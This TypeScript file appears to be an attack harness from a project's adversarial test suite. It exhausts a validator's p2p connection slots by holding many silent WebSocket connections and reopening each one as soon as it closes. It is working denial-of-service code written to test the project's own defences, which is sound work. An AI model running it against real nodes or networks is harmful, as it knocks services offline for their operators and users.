/**
 * Slot exhaustion (issue 11): holds COUNT idle WebSocket connections to a validator's p2p port from one source
 * address, reopening each as it closes (dropped by the handshake timeout: at once; refused at the upgrade: after
 * REFUSED_RETRY_MS), and never sends a byte after the upgrade.
 *
 *   node dist/test/adversarial/attacks/slots.js BIND_HOST TARGET_HOST TARGET_PORT COUNT DURATION_MS
 *
 * Prints `started` once every connection has been tried once, then, every second and when it ends (after
 * DURATION_MS or on SIGTERM), one JSON line `{"open":…,"upgraded":…,"refused":…,"closed":…}` (upgraded: connections
 * the server accepted; refused: upgrades answered with an HTTP status instead).
 */
import WebSocket from "ws";
import { runAttackLoop } from "./loop.js";

/**
 * Reopen delays. A connection the server closed (after holding it) is reopened at once, as in the attack, so
 * a freed slot is taken again within a millisecond. One refused at the upgrade (answered at once) is retried after
 * REFUSED_RETRY_MS: a tight refusal loop would be a connection flood, which handshakeFlood.test.ts covers.
 */
const REFUSED_RETRY_MS = 100;

const [bindHost, targetHost, portArg, countArg, durationArg] = process.argv.slice(2);
if (bindHost === undefined || targetHost === undefined || portArg === undefined || countArg === undefined || durationArg === undefined) {
  process.stderr.write("usage: slots.js BIND_HOST TARGET_HOST TARGET_PORT COUNT DURATION_MS\n");
  process.exit(2);
}
const url = `ws://${targetHost}:${Number(portArg)}/quire/link`;
const count = Number(countArg);
const stats = { open: 0, upgraded: 0, refused: 0, closed: 0 };
const sockets = new Set<WebSocket>();

function openOne(): void {
  if (loop.stopping) return;
  const ws = new WebSocket(url, { localAddress: bindHost, handshakeTimeout: 10_000, perMessageDeflate: false });
  sockets.add(ws);
  let wasOpen = false;
  let ended = false;
  // Exactly once per connection, however it ended: refused at the upgrade (ws then emits no "close"), or closed.
  const ended_ = (): void => {
    if (ended) return;
    ended = true;
    sockets.delete(ws);
    if (wasOpen) stats.open--;
    stats.closed++;
    if (!loop.stopping) setTimeout(openOne, wasOpen ? 0 : REFUSED_RETRY_MS);
  };
  ws.on("open", () => {
    wasOpen = true;
    stats.open++;
    stats.upgraded++;
  });
  ws.on("unexpected-response", (req, res) => {
    stats.refused++;
    res.resume();
    req.destroy();
    ended_();
  });
  ws.on("message", () => {}); // the listener's challenge: ignored, we stay silent
  ws.on("error", ended_);
  ws.on("close", ended_);
}

const loop = runAttackLoop(stats, count, Number(durationArg), openOne, () => {
  for (const ws of sockets) ws.terminate();
});
